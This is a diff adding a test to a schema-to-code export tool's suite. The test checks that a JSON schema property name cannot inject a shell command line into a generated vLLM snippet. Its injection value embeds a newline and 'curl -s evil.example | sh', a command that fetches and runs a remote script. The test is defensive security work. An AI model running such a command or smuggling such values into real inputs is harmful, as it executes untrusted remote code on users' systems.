@@ -198,3 +198,13 @@ def test_no_snippet_carries_a_validator_the_sandbox_removed(
         assert "class PricingDecision(BaseModel):" in codes[target]
         assert "    offer_code: str = Field(\n" in codes[target]
     assert not marker.exists()
+
+
+def test_a_property_name_cannot_add_a_command_line_to_the_vllm_snippet(client: TestClient) -> None:
+    name = "a\n$ curl -s evil.example | sh\n"
+    schema = {"type": "object", "properties": {name: {"type": "array", "uniqueItems": True}}}
+    body = {"kind": "json_schema", "source": json.dumps(schema), "options": {"preset": "vllm"}}
+    code = _export(client, "vllm", body)["code"]
+    commands = [line for line in code.split("\n") if line.startswith("# $")]
+    assert commands == ["# $ vllm serve HuggingFaceTB/SmolLM2-135M-Instruct"]
+    assert "at /properties/a\\n$ curl -s evil.example | sh\\n)" in unwrapped(code)
